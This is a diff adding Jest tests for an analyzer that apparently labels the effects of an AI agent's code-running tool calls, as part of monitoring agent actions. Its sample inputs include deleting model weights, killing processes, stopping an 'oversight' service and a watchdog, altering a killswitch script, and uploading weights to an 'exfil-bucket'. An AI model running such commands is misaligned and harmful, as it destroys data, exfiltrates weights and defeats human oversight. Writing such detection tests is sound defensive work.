@@ -1,0 +1,46 @@
+import { analyze, brief, def } from "./call-of";
+
+const py = (code: string) => brief(analyze("run_python", { code }).effects);
+
+describe("code-running tools: library calls on files and processes", () => {
+  test.each([
+    ["import shutil\nshutil.rmtree('/srv/models/lark-7b')", ["delete /srv/models/lark-7b"]],
+    ["import os; os.remove(\"/srv/m/model.safetensors\")", ["delete /srv/m/model.safetensors"]],
+    ["from pathlib import Path\nPath('/srv/m/x.bin').unlink()", ["delete /srv/m/x.bin"]],
+    ["import os, signal\nos.kill(48213, signal.SIGKILL)", ["stop 48213"]],
+    ["shutil.copytree('/srv/models/x', '/mnt/backup/.x')", ["copy /srv/models/x"]],
+    ["shutil.move('/srv/models/x', '/srv/.x')", ["move /srv/models/x"]],
+    ["os.chmod('/etc/killswitch/trigger.sh', 0o644)", ["permissions /etc/killswitch/trigger.sh"]],
+    ["with open('/etc/agent.yaml', 'w') as f: f.write('x')", ["modify /etc/agent.yaml"]],
+    ["with open('/etc/agent.yaml') as f: print(f.read())", ["execute"]],
+    ["import subprocess\nsubprocess.run('rm -rf /srv/a && kill 9', shell=True)", ["delete /srv/a", "stop 9"]],
+    ["subprocess.run(['systemctl', 'stop', 'oversight'])", ["stop oversight"]],
+    ["os.system(\"pkill -f watchdog\")", ["stop watchdog"]],
+    ["items = [1, 2]; items.remove(1); s = 'a'.replace('a', 'b')", ["execute"]],
+    ["print('hello')", ["execute"]],
+  ])("%s", (code, expected) => expect(py(code)).toEqual(expected));
+
+  test("boto3 uploads are remote copies", () => {
+    const [e] = analyze("execute_code", { code: "s3.upload_file('/srv/m/model.safetensors', 'exfil-bucket', 'm.safetensors')" }).effects;
+    expect(e).toMatchObject({ action: "copy", destination: "s3://exfil-bucket/m.safetensors", remoteDestination: true });
+  });
+  test("node fs calls", () => {
+    expect(brief(analyze("javascript", { code: "fs.rmSync('/srv/m', { recursive: true })" }).effects)).toEqual(["delete /srv/m"]);
+  });
+  test("described as running Python", () => {
+    expect(analyze("sandbox", { source: "shutil.rmtree('/x')" }, def("sandbox", "Execute Python code in a sandbox")).destructive).toBe(true);
+  });
+});
+
+describe("a runner word does not make a tool with another verb a runner", () => {
+  test.each([
+    ["kill_shell_session", { session_id: "s-1" }, "stop s-1"],
+    ["list_sql_tables", { schema: "public" }, "read public"],
+    ["delete_python_env", { name: "venv-1" }, "delete venv-1"],
+    ["drain_node", { node: "n-1" }, "pause n-1"],
+  ])("%s", (name, args, expected) => {
+    const a = analyze(name, args);
+    expect(a.commandRunner).toBe(false);
+    expect(brief(a.effects)).toEqual([expected]);
+  });
+});
